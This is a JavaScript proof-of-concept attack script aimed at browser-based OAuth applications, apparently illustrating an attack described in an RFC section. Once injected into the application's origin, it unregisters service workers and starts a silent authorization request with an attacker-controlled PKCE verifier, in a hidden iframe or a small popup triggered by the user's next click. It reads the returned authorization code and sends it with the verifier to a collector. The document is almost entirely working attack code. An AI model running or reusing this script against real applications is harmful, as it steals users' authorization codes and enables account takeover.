/*
 * RFC 10017, section 5.1.3: the script ignores the application's tokens and gets
 * some of its own. The user is signed in at the provider, so an authorization
 * request in a hidden frame is answered at once and without a question.
 */
(async () => {
  const loot = { attack: '5.1.3' };

  // 1. A service worker that keeps the application's tokens stands in the way
  //    of nothing once it is gone.
  for (const worker of await navigator.serviceWorker.getRegistrations()) await worker.unregister();

  // 2. An authorization request as the application makes it, but the secret of
  //    PKCE is the attacker's.
  loot.code_verifier = base64url(crypto.getRandomValues(new Uint8Array(32)));
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(loot.code_verifier));
  const request = new URL(TARGET.authorization_endpoint);
  request.search = new URLSearchParams({
    response_type: 'code',
    client_id: TARGET.client_id,
    redirect_uri: TARGET.redirect_uri,
    scope: TARGET.scope,
    state: 'attack',
    code_challenge: base64url(new Uint8Array(digest)),
    code_challenge_method: 'S256',
    prompt: 'none',
  });

  // 3. The answer comes to the application's own origin, where this script may
  //    read the address. The page there gets no chance to use the code.
  document.addEventListener('securitypolicyviolation', (event) => (loot.blocked_by = event.effectiveDirective));
  let loaded = false;
  const opened = TARGET.popup ? await popUp(request) : hiddenFrame(request);
  for (let waited = 0; waited < 5000 && !loot.code && !loot.error && !loot.blocked_by; waited += 5) {
    await new Promise((done) => setTimeout(done, 5));
    if (opened.closed) loot.blocked_by = 'Cross-Origin-Opener-Policy';
    const address = readable(opened);
    loot.code = address?.searchParams.get('code') ?? undefined;
    loot.error = address?.searchParams.get('error') ?? undefined;
  }
  // A frame that has loaded and cannot be read shows a page of the provider's. One
  // that has not loaded may still bring a code.
  if (!loot.code && !loot.error && !loot.blocked_by && !loaded) loot.undecided = 'there was no answer in time';

  // 4. Without a code there is nothing to trade, and the collector is told why.
  await send(loot);

  function hiddenFrame(url) {
    const frame = document.createElement('iframe');
    frame.hidden = true;
    frame.src = url;
    frame.addEventListener('load', () => (loaded = true));
    document.body.append(frame);
    return frame.contentWindow;
  }

  /** A window opens at the user's next click, wherever that is. */
  function popUp(url) {
    return new Promise((opened) => {
      document.addEventListener('click', () => opened(window.open(url, '', 'width=100,height=100')), { once: true });
    });
  }

  function readable(opened) {
    try {
      return new URL(opened.location.href);
    } catch {
      return undefined;
    }
  }

  function base64url(bytes) {
    const text = btoa(String.fromCharCode(...bytes));
    return text.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
  }
})();
